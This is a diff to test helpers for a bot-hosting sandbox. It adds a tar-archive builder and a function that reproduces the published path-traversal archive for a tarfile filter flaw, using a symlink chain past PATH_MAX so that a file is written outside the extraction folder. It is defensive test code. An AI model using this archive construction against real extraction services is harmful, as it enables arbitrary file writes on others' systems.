@@ -1,8 +1,11 @@
-"""Helpers of the hosted-bot tests: an independent look at /proc for what a sandbox left behind."""
+"""Helpers of the hosted-bot tests: an independent look at /proc for what a sandbox left behind,
+and archives built as an attacker builds them."""
 from __future__ import annotations
 
 import asyncio
+import io
 import os
+import tarfile
 
 from cardarena.server import sandbox
 
@@ -35,3 +38,41 @@ def left_of(box: sandbox.Sandbox) -> list[str]:
 
 def run(coro):
     return asyncio.run(coro)
+
+
+def tar_of(*members: tuple) -> bytes:
+    """A tar.gz of (name, kind, payload), made member by member as anyone can: kind "file"
+    (payload: its text), "dir", "sym" or "hard" (payload: the link's target), "fifo"."""
+    buf = io.BytesIO()
+    with tarfile.open(fileobj=buf, mode="w:gz", format=tarfile.PAX_FORMAT) as tar:
+        for name, kind, payload in members:
+            info = tarfile.TarInfo(name)
+            info.mode = 0o755
+            if kind == "file":
+                data = payload.encode()
+                info.size = len(data)
+                tar.addfile(info, io.BytesIO(data))
+                continue
+            info.type = {"dir": tarfile.DIRTYPE, "sym": tarfile.SYMTYPE, "hard": tarfile.LNKTYPE,
+                         "fifo": tarfile.FIFOTYPE}[kind]
+            info.linkname = payload or ""
+            tar.addfile(info)
+    return buf.getvalue()
+
+
+def link_chain(dest_len: int, up: int, rel: str) -> bytes:
+    """The archive of CVE-2025-4517, as published: a chain of links past PATH_MAX that Python's
+    `data` filter (before 3.11.13) let through, then ``escape`` ``up`` folders above a folder
+    whose path is ``dest_len`` long, and the file ``escape/rel`` written through it."""
+    steps = "abcdefghijklmnop"
+    component = "d" * ((4096 - (dest_len + 1)) // (len(steps) + 1))
+    members, path = [], ""
+    for step in steps:
+        members += [(os.path.join(path, component), "dir", None), (os.path.join(path, step), "sym", component)]
+        path = os.path.join(path, component)
+    link = os.path.join(*steps, "l" * 254)
+    members += [(link, "sym", os.path.join(*[".."] * len(steps))),
+                ("escape", "sym", os.path.join(link, *[".."] * up)),
+                ("escape/" + rel, "file", "written outside the folder by a submission\n"),
+                ("bot.py", "file", "print('hi')\n")]
+    return tar_of(*members)
